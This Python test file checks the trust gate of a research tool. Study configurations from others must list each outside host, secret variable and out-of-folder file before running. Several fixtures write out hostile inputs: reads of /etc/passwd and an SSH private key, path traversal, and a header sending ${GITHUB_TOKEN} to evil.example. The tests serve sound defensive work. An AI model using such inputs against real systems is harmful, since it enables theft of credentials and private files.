"""A study file of somebody else: what it needs is listed, asked about once, and nothing happens before the answer."""

from __future__ import annotations

import json
import os
import pty
import select
import stat
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, get_args

import polars as pl
import pytest
from pydantic import BaseModel
from tests.cli.program import personax, printing_to

from personax import Study
from personax.config import CollectRelease, CollectSimulated, Plan, access_marks
from personax.errors import TrustError
from personax.sources import CollectSeveral, source_classes
from personax.stages import STAGES
from personax.trust import state_folder

PEOPLE = "id,name,biography\n" + "".join(f"p{i},Ann {i},She is kind.\n" for i in range(30))


@pytest.fixture(autouse=True)
def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A user who has not trusted anything."""
    for name in ("PERSONAX_TRUSTED_FOLDERS", "PERSONAX_TRUST"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "sent"
    made.mkdir()
    (made / "people.csv").write_text(PEOPLE)
    return made


def study(folder: Path, text: str) -> Path:
    path = folder / "study.yaml"
    path.write_text("name: sent\n" + text)
    return path


def asked(url: str, more: str = "") -> str:
    return (
        "collect: {source: table, path: people.csv}\n"
        f"annotate: {{source: llm, models: [{{name: a, model: m, base_url: '{url}'{more}}}]}}\n"
    )


SENT: Mapping[str, tuple[str, tuple[str, ...]]] = {
    "an endpoint": (
        asked("https://x.example/v1"),
        ("host x.example", "sends the columns name, biography of each person to x.example"),
    ),
    "a key": (
        asked("https://x.example/v1", ", key: OPENAI_API_KEY"),
        ("variable OPENAI_API_KEY", "to x.example, the value of OPENAI_API_KEY as its key"),
    ),
    "a key of something else": (
        asked("https://x.example/v1", ", key: AWS_SECRET_ACCESS_KEY"),
        ("variable AWS_SECRET_ACCESS_KEY (not the name of a key for language models)",),
    ),
    "a key to another user of this machine": (
        asked("http://127.0.0.1:9/v1", ", key: OPENAI_API_KEY"),
        ("to 127.0.0.1:9, which is this machine",),
    ),
    "a judge elsewhere": (
        "collect: {source: table, path: people.csv}\nannotate: {source: llm, "
        "models: [{name: a, model: m, base_url: 'http://localhost:9/v1'}], "
        "judge: {name: j, model: m, base_url: 'https://judge.example/v1'}}\n",
        ("host judge.example", "to judge.example"),
    ),
    "a hidden name": (
        "collect: {source: table, path: people.csv}\nannotate: {source: llm, prompt: {fields: [biography], hide_name: "
        "true}, models: [{name: a, model: m, base_url: 'https://x.example/v1'}]}\n",
        ("sends the columns biography of each person, names hidden to x.example",),
    ),
    "a diary": ("collect: {source: table, path: ../victim/diary.csv}\n", ("/victim/diary.csv",)),
    "an absolute path": ("collect: {source: table, path: /etc/passwd}\n", ("file /etc/passwd",)),
    "a questionnaire": (
        "collect: {source: table, path: people.csv}\n"
        "annotate: {source: questionnaire, path: ../a.csv, id: id, key: ../b.csv, low: 1, high: 5}\n",
        ("/a.csv", "/b.csv"),
    ),
    "vectors": (
        "collect: {source: table, path: people.csv}\nembed: {source: files, files: {text: {x: ../v.parquet}}}\n",
        ("/v.parquet",),
    ),
    "pictures": (
        "collect: {source: table, path: people.csv}\nembed: {source: offline, images: ../faces}\n",
        ("/faces",),
    ),
    "a model of a hub": (
        "collect: {source: table, path: people.csv}\nembed: {source: models, text: {x: {model: maker/model}}}\n",
        ("host the hub", "sends the name of maker/model"),
    ),
    "a data set of a hub": ("collect: {source: release, from: user/set}\n", ("host the hub", "user/set")),
    "a release elsewhere": ("collect: {source: release, from: ../their-release}\n", ("/their-release",)),
    "a removal list": (
        "collect: {source: table, path: people.csv}\nrelease: {removed: ../ids.txt}\n",
        ("/ids.txt",),
    ),
    "a league with a header": (
        "collect: {source: several, contact: me@example.org, sources: [{source: nfl, base_url: 'https://evil.example', "
        "headers: {X-Mine: 'a${GITHUB_TOKEN}'}}]}\n",
        ("host evil.example", "variable GITHUB_TOKEN (not", "the contact me@example.org"),
    ),
    "pictures of a league": (
        "collect: {source: several, contact: me@example.org, pictures: {size: 64}, sources: [{source: nba, base_url: "
        "'http://127.0.0.1:9', season: 2024-25, picture_hosts: [pictures.example]}]}\n",
        ("host pictures.example", "host cdn.nba.com"),
    ),
    "wikidata": (
        "collect: {source: several, contact: me@example.org, sources: [{source: wikidata, ids: [Q1]}]}\n",
        ("host www.wikidata.org", "host query.wikidata.org"),
    ),
    "names sent to wikidata": (
        "collect: {source: several, contact: me@example.org, sources: [{source: celeba, path: c, wikidata: true, "
        "names: n.txt}]}\n",
        ("host www.wikidata.org", "sends the names of the people of c to Wikidata"),
    ),
}


@pytest.mark.parametrize("name", SENT)
def test_what_leads_out_is_listed_and_nothing_runs_before_it_is_allowed(folder: Path, name: str) -> None:
    text, wanted = SENT[name]
    path = study(folder, text)
    loaded = Study.load(path)
    shown = "\n".join(loaded.permissions.lines())
    for one in wanted:
        assert one in shown, shown
    for attempt in (loaded.run, lambda: loaded.reader, lambda: loaded.answer(folder / "q.yaml", folder / "out")):
        with pytest.raises(TrustError, match=r"Study\.trust\(\)"):
            attempt()
    done = personax("run", path)
    assert done.returncode == 3
    assert done.stderr.count("error: ") == 1
    assert sorted(one.name for one in folder.iterdir()) == ["people.csv", "study.yaml"]


def test_a_study_that_keeps_to_its_folder_is_not_asked_about(folder: Path) -> None:
    for text in (
        "collect: {source: simulate, n: 20, images: false}\n",
        "collect: {source: table, path: people.csv}\nannotate: {source: lexicon}\n",
        asked("http://127.0.0.1:9/v1"),
        "collect: {source: several, contact: me@example.org, sources: [{source: nba, base_url: 'http://127.0.0.1:9', "
        "season: 2024-25}]}\n",
        f"collect: {{source: table, path: {folder / 'people.csv'}}}\n",
    ):
        assert Study.load(study(folder, text)).permissions.lines() == []
        Study.load(folder).check_trust()


def test_a_link_that_leads_out_and_hidden_files_are_outside(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "diary.csv").write_text(PEOPLE)
    (folder / "inside.csv").symlink_to(tmp_path / "diary.csv")
    lines = Study.load(study(folder, "collect: {source: table, path: inside.csv}\n")).permissions.lines()
    assert lines == [f"file {tmp_path / 'diary.csv'}"]
    lines = Study.load(study(folder, "collect: {source: table, path: .ssh/id_ed25519}\n")).permissions.lines()
    assert lines == [f"file {folder / '.ssh' / 'id_ed25519'}"]


def test_an_answer_is_kept_for_these_lines_alone_where_no_sender_writes(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "diary.csv").write_text(PEOPLE)
    path = study(folder, "collect: {source: table, path: ../diary.csv}\n")
    assert personax("trust", path).returncode == 3
    done = personax("trust", path, "--yes")
    assert (done.returncode, f"file {tmp_path / 'diary.csv'}" in done.stdout) == (0, True)
    (kept,) = state_folder().iterdir()
    assert json.loads(kept.read_text())["lines"] == [f"file {tmp_path / 'diary.csv'}"]
    assert stat.S_IMODE(state_folder().stat().st_mode) == 0o700
    assert Study.load(path).run(["collect"])[0].ran
    path = study(folder, "collect: {source: table, path: ../other.csv}\n")
    assert personax("run", path).returncode == 3
    assert state_folder().is_relative_to(tmp_path / "state")


def test_a_variable_of_another_name_has_to_be_named(folder: Path) -> None:
    path = study(folder, asked("https://x.example/v1", ", key: AWS_SECRET_ACCESS_KEY"))
    done = personax("trust", path, "--yes")
    assert done.returncode == 3
    assert "--variable AWS_SECRET_ACCESS_KEY" in done.stderr
    with pytest.raises(TrustError):
        Study.load(path).trust()
    assert personax("trust", path, "--yes", "--variable", "AWS_SECRET_ACCESS_KEY").returncode == 0
    Study.load(path).check_trust()


def test_a_batch_job_says_the_digest_and_ones_own_folders_are_not_asked_about(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = study(folder, asked("https://x.example/v1", ", key: OPENAI_API_KEY"))
    told = json.loads(personax("trust", path, "--json").stdout)
    assert told["trusted"] is False
    monkeypatch.setenv("PERSONAX_TRUST", told["digest"])
    Study.load(path).check_trust()
    monkeypatch.setenv("PERSONAX_TRUST", told["digest"][:-1])
    with pytest.raises(TrustError):
        Study.load(path).check_trust()
    monkeypatch.setenv("PERSONAX_TRUSTED_FOLDERS", str(folder))
    Study.load(path).check_trust()
    path = study(folder, asked("https://x.example/v1", ", key: AWS_SECRET_ACCESS_KEY"))
    with pytest.raises(TrustError):
        Study.load(path).check_trust()


def test_status_reads_no_device_and_asks_nothing(folder: Path) -> None:
    path = study(folder, "collect: {source: table, path: /dev/zero}\n")
    assert personax("status", path).returncode == 0


def test_status_reads_nothing_that_is_not_allowed(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = study(folder, "collect: {source: table, path: /}\n")
    monkeypatch.setattr("personax.study.sha256", lambda path: pytest.fail(f"{path} was read"))
    done = personax("status", path)
    assert done.returncode == 0
    assert "missing" in done.stdout


@pytest.mark.skipif(os.name != "posix", reason="terminals are of POSIX")
@pytest.mark.parametrize(
    ("typed", "code", "kept"),
    [("y\n", 1, 1), ("n\n", 3, 0), ("\n", 3, 0)],
    ids=["yes", "no", "nothing typed"],
)
def test_at_a_terminal_the_question_is_asked(
    folder: Path, monkeypatch: pytest.MonkeyPatch, typed: str, code: int, kept: int
) -> None:
    """What is allowed is then run: the file is not there, which is another sentence."""
    path = study(folder, "collect: {source: table, path: ../no-such.csv}\n")
    there, here = pty.openpty()
    os.write(there, typed.encode())
    with os.fdopen(here) as keys, Path(os.ttyname(here)).open("w") as screen:
        monkeypatch.setattr(sys, "stdin", keys)
        returncode = printing_to(screen, screen, "run", path)
        screen.flush()
        shown = b""
        while select.select([there], [], [], 0)[0]:
            shown += os.read(there, 4096)
    os.close(there)
    assert b"no-such.csv" in shown
    assert b"Allow this" in shown
    assert returncode == code, shown
    assert len(list(state_folder().glob("*"))) == kept


def test_a_new_study_and_the_demo_are_ones_own(tmp_path: Path) -> None:
    assert personax("init", tmp_path / "mine").returncode == 0
    Study.load(tmp_path / "mine").check_trust()


def test_a_package_whose_part_is_named_is_listed(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from personax import registry

    @registry.register("trait_frameworks", "toy-framework")
    class _Toy:
        """A part of this test's module, which is not personax."""

    try:
        plan = Study.load(study(folder, "collect: {source: simulate, n: 20}\n")).plan
        named = plan.model_copy(update={"name": "toy-framework"})
        lines = Study(named, folder, base=folder).permissions.lines()
    finally:
        registry.forget("trait_frameworks", "toy-framework")
    assert [line for line in lines if "trait framework toy-framework" in line]


PLAIN = """
AnswerSection: columns modalities withheld
Gate: max_rank_1
AnonymityRequirements: groups weights quasi_identifiers sensitive
AnnotateLLM: families framework groups judge rule
AnnotateLexicon: families framework groups rule
AnnotateQuestionnaire: framework id missing
AnnotateRelease: framework rule
AnnotateSimulated: families groups rule
Atp: gender
Bundesliga: gender season
CollectCelebA: attributes called
CollectNflPlayers: called
CollectOpenfootball: called
CollectRelease: mapping revision
CollectSeveral: contact only
CollectTable: called columns encoding leave_out missing preset separator table
ColumnRule: risk
ColumnSpec: format join joint levels missing parts source unit values
CrlSection: latents method
DiscoverSection: test
DomainDescription: letter meaning name
EmbedModels: image text
Espn: called competition gender sport
FileSource: called source
ImageEncoding: device revision
FrameworkDescription: anchors language licence name reference title
IndependenceSection: by cluster features given options strata targets tests
ItemDescription: id text
Knowledge: forbidden required tiers
Model: api_version cutoff extra_body headers model name provider
Nba: called gender league_id season
Nfl: gender teams
Nflverse: gender
Nhl: gender season
NoiseSettings: categories numbers
Pga: gender
Plan: name
PremierLeague: competition gender season
Prior: forbidden tiers
PromptSettings: fields
Publisher: authors consent contact date description ethics funding homepage language licence purpose title version
ReleaseSection: allowed columns transform withheld
ReportSection: title
StatisticsRequest: columns tables
StereotypeAudit: dated fields popularity
TextEncoding: device instruction like of revision
TraitDescription: high letter low meaning name part_of
TranslationAudit: framework
WebSource: called name
Wikidata: ids languages league
"""
"""Words of somebody's own that lead nowhere: names of columns, traits, parts, seasons; texts of cards."""


def blocks(kind: Any, seen: set[type[BaseModel]]) -> Iterator[type[BaseModel]]:
    """Yield all blocks of settings within a type."""
    if isinstance(kind, type) and issubclass(kind, BaseModel) and kind not in seen:
        seen.add(kind)
        yield kind
        for field in kind.model_fields.values():
            yield from blocks(field.annotation, seen)
    for inner in get_args(kind):
        yield from blocks(inner, seen)


def holds_text(kind: Any) -> bool:
    """Say whether a setting can be any text."""
    if kind is str:
        return True
    return any(holds_text(inner) for inner in get_args(kind) if not (isinstance(inner, str)))


def test_every_setting_that_can_be_any_text_is_marked_or_known_to_lead_nowhere() -> None:
    """Whoever adds a setting decides: what leads out gets a mark of `personax.strict`, a word a line here."""
    plain = dict(line.split(": ") for line in PLAIN.strip().splitlines())
    seen: set[type[BaseModel]] = set()
    roots = [Plan, CollectSimulated, CollectRelease, CollectSeveral, *source_classes("file", "web", "sources").values()]
    found = {
        f"{block.__name__}.{name}"
        for root in roots
        for block in blocks(root, seen)
        if block.__module__.startswith("personax.")
        for name, field in block.model_fields.items()
        if holds_text(field.annotation) and not access_marks(field.annotation, field.metadata)
    }
    assert found == {f"{block}.{name}" for block, names in plain.items() for name in names.split()}


def test_the_files_that_stages_hash_are_among_those_that_are_listed(folder: Path) -> None:
    for text, _ in SENT.values():
        loaded = Study.load(study(folder, text))
        files = set(loaded.permissions.files)
        for stage in STAGES:
            for name in stage.external_files(loaded.plan) if loaded.is_planned(stage) else ():
                place = (folder / name).resolve()
                assert place.is_relative_to(folder) or str(place) in files or "/set" in name


@pytest.mark.parametrize("form", ["~/x.parquet", "file:{home}/x.parquet"])
@pytest.mark.parametrize("given", ["study.yaml", "."])
def test_the_file_that_was_looked_at_is_the_file_that_is_read(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: str, given: str
) -> None:
    """A decoy in a folder that is called ``~`` or ``file:`` stands for a file of the home folder."""
    home = tmp_path / "home"
    home.mkdir()
    for name, place in (("decoy", folder / form.format(home=home)), ("secret", home / "x.parquet")):
        place.parent.mkdir(parents=True, exist_ok=True)
        pl.DataFrame({"id": [f"{name}{i}" for i in range(30)], "height": range(30)}).write_parquet(place)
    study(folder, f"collect: {{source: table, path: '{form.format(home=home)}'}}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(folder)
    Study.load(Path(given)).run()
    assert set(pl.read_parquet(folder / "people" / "people.parquet")["id"].str.slice(0, 5)) == {"decoy"}


def test_a_study_folder_called_like_the_home_folder_is_not_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "~").mkdir()
    (tmp_path / "~" / "study.yaml").write_text("{name: a, collect: {source: simulate, n: 20, images: false}}")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    Study.load(Path("~")).run()
    assert (tmp_path / "~" / "people" / "people.parquet").is_file()
    assert list((tmp_path / "home").iterdir()) == []


def test_status_says_that_a_study_was_not_allowed_yet(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "diary.csv").write_text(PEOPLE)
    made = study(folder, "collect: {source: table, path: ../diary.csv}\n")
    shown = personax("status", made)
    assert shown.returncode == 0
    assert f"not allowed yet, so it cannot run: personax trust {made}" in " ".join(shown.stderr.split())
    assert json.loads(personax("status", made, "--json").stdout)[0]["stage"] == "collect"
    Study.load(made).trust()
    assert "not allowed" not in personax("status", made).stderr
